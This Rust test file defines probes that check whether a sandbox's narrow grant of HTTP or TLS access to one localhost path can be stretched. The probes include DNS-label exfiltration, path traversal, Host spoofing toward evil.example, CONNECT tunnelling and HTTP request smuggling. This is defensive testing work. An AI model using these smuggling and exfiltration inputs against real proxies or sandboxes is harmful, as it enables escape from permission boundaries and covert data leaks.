//! What is granted by name: DNS, TLS and HTTP, used for something else.

use super::{Canary, Probe, probe};

/// The machine itself by its name, to be asked below one path.
const PART: &[&str] = &["network_access:http://localhost:{tcp}/granted/ GET"];
const TLS: &[&str] = &["network_access:https://localhost:{tcp}"];

const ARRIVES: Canary = Canary::Told("{mark}");

const ANSWERED: Canary = Canary::Answered("answered {mark}");
const NOBODY: &str = "bare there is no resolver of ours, which is what is asked";

const fn question(name: &'static str, attack: &'static [&'static str]) -> Probe {
    probe(name, attack, ANSWERED).grants(PART).not_bare(NOBODY)
}

/// What is said on a connection to the granted name arrives at the victim.
const fn said(name: &'static str, attack: &'static [&'static str]) -> Probe {
    probe(name, attack, ARRIVES).grants(PART)
}

pub(super) const NAMES: &[Probe] = &[
    probe(
        "ask for the granted name",
        &["ask-name", "localhost", "1", "0"],
        ANSWERED,
    )
    .grants(PART)
    .not_bare(NOBODY)
    .granted(),
    question(
        "DNS: another name",
        &["ask-name", "{mark}.example", "1", "0"],
    ),
    question(
        "DNS: another name, over TCP",
        &["ask-name", "{mark}.example", "1", "1"],
    ),
    question(
        "DNS: data in TXT",
        &["ask-name", "{mark}.localhost", "16", "0"],
    ),
    question(
        "DNS: TXT of the granted name",
        &["ask-name", "localhost", "16", "0"],
    ),
    question(
        "DNS: NULL of the granted name",
        &["ask-name", "localhost", "10", "0"],
    ),
    question(
        "DNS: keys of the granted name",
        &["ask-name", "localhost", "65", "0"],
    ),
    question(
        "DNS: everything of the granted name",
        &["ask-name", "localhost", "255", "0"],
    ),
    question(
        "DNS: a name below the granted one",
        &["ask-name", "{mark}.localhost", "1", "0"],
    ),
    question(
        "DNS: data in many labels",
        &[
            "ask-name",
            "a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r.s.t.u.v.w.x.y.z.{mark}.localhost",
            "1",
            "0",
        ],
    ),
    question(
        "DNS: by address",
        &["ask-name", "1.0.0.127.in-addr.arpa", "12", "0"],
    ),
    probe(
        "HTTP: as granted",
        &[
            "say-to-name",
            "{tcp}",
            "GET /granted/{mark} HTTP/1.1~Host: localhost:{tcp}~~",
        ],
        ARRIVES,
    )
    .grants(PART)
    .granted(),
    said(
        "HTTP: another path",
        &[
            "say-to-name",
            "{tcp}",
            "GET /{mark} HTTP/1.1~Host: localhost:{tcp}~~",
        ],
    ),
    said(
        "HTTP: another path through ..",
        &[
            "say-to-name",
            "{tcp}",
            "GET /granted/../{mark} HTTP/1.1~Host: localhost:{tcp}~~",
        ],
    ),
    said(
        "HTTP: another path through %2e%2e",
        &[
            "say-to-name",
            "{tcp}",
            "GET /granted/%2e%2e/{mark} HTTP/1.1~Host: localhost:{tcp}~~",
        ],
    ),
    said(
        "HTTP: another method",
        &[
            "say-to-name",
            "{tcp}",
            "DELETE /granted/{mark} HTTP/1.1~Host: localhost:{tcp}~~",
        ],
    ),
    said(
        "HTTP: another Host",
        &[
            "say-to-name",
            "{tcp}",
            "GET /granted/{mark} HTTP/1.1~Host: evil.example~~",
        ],
    ),
    said(
        "HTTP: two Hosts",
        &[
            "say-to-name",
            "{tcp}",
            "GET /granted/{mark} HTTP/1.1~Host: localhost:{tcp}~Host: evil.example~~",
        ],
    ),
    said(
        "HTTP: the address as Host",
        &[
            "say-to-name",
            "{tcp}",
            "GET /granted/{mark} HTTP/1.1~Host: 127.0.0.1:{tcp}~~",
        ],
    ),
    said(
        "HTTP: no Host",
        &["say-to-name", "{tcp}", "GET /granted/{mark} HTTP/1.1~~"],
    ),
    said(
        "HTTP: a target elsewhere",
        &[
            "say-to-name",
            "{tcp}",
            "GET http://evil.example/granted/{mark} HTTP/1.1~Host: localhost:{tcp}~~",
        ],
    ),
    said(
        "HTTP: CONNECT",
        &[
            "say-to-name",
            "{tcp}",
            "CONNECT {mark}:443 HTTP/1.1~Host: localhost:{tcp}~~",
        ],
    ),
    said(
        "HTTP: version 0.9",
        &["say-to-name", "{tcp}", "GET /granted/{mark}~"],
    ),
    said(
        "HTTP: version 1.0",
        &[
            "say-to-name",
            "{tcp}",
            "GET /granted/{mark} HTTP/1.0~Host: localhost:{tcp}~~",
        ],
    ),
    said(
        "HTTP: no longer HTTP",
        &[
            "say-to-name",
            "{tcp}",
            "GET /granted/{mark} HTTP/1.1~Host: localhost:{tcp}~Connection: Upgrade, HTTP2-Settings~Upgrade: h2c~HTTP2-Settings: AAMAAABk~~",
        ],
    ),
    said(
        "HTTP: version 2 unannounced",
        &["say-to-name", "{tcp}", "PRI * HTTP/2.0~~SM~~{mark}"],
    ),
    said("HTTP: no HTTP at all", &["say-to-name", "{tcp}", "{mark}~"]),
    said(
        "HTTP: smuggled by two lengths",
        &[
            "say-to-name",
            "{tcp}",
            "GET /granted/ HTTP/1.1~Host: localhost:{tcp}~Content-Length: 4~Transfer-Encoding: chunked~~0~~GET /{mark} HTTP/1.1~Host: localhost:{tcp}~~",
        ],
    ),
    said(
        "HTTP: smuggled behind the first",
        &[
            "say-to-name",
            "{tcp}",
            "GET /granted/ HTTP/1.1~Host: localhost:{tcp}~Content-Length: 0~~GET /{mark} HTTP/1.1~Host: localhost:{tcp}~~",
        ],
    ),
    said(
        "HTTP: smuggled in a chunk's size",
        &[
            "say-to-name",
            "{tcp}",
            "GET /granted/ HTTP/1.1~Host: localhost:{tcp}~Transfer-Encoding: chunked~~0;{mark}~~GET /{mark} HTTP/1.1~Host: localhost:{tcp}~~",
        ],
    ),
    said(
        "the address in place of the name",
        &["stream", "0", "127.0.0.1", "{tcp}"],
    ),
    probe("TLS: no TLS", &["say-to-name", "{tcp}", "{mark}~"], ARRIVES).grants(TLS),
    probe(
        "TLS: as granted",
        &["greet-name", "{tcp}", "localhost"],
        ARRIVES,
    )
    .grants(TLS)
    .granted(),
    probe(
        "TLS: for another name",
        &["greet-name", "{tcp}", "evil.example"],
        ARRIVES,
    )
    .grants(TLS),
    probe("TLS: for no name", &["greet-name", "{tcp}", ""], ARRIVES).grants(TLS),
];
